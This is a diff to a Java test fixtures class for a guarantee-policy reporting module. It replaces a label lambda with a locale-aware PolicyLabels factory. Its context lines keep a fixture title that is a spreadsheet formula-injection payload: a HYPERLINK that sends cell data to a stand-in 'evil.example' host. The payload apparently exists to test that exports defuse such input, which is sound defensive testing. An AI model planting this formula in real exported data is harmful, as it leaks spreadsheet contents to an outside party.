@@ -15,12 +15,14 @@ import io.blueprint.policy.RefundRuleTerms;
 import io.blueprint.policy.Remedy;
 import io.blueprint.reports.policy.PublishedGuarantee;
 import io.blueprint.reports.policy.PublishedGuarantee.TouchpointRef;
+import io.blueprint.reports.policy.wording.PolicyLabels;
 
 import java.math.BigDecimal;
 import java.time.Instant;
 import java.time.LocalDate;
 import java.util.Arrays;
 import java.util.List;
+import java.util.Locale;
 
 /** Guarantee versions as the read model gives them, like the demo's, and one crafted to attack a spreadsheet. */
 final class Fixtures {
@@ -32,8 +34,8 @@ final class Fixtures {
     static final String FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click\")";
 
     /** Labels that name their key and arguments, so tests see which text went where. */
-    static final ExportLabels KEYS = (key, arguments) ->
-            arguments.length == 0 ? key : key + Arrays.toString(arguments);
+    static final PolicyLabels KEYS = PolicyLabels.of(Locale.ENGLISH, (key, arguments) ->
+            arguments.length == 0 ? key : key + Arrays.toString(arguments));
 
     private Fixtures() {
     }
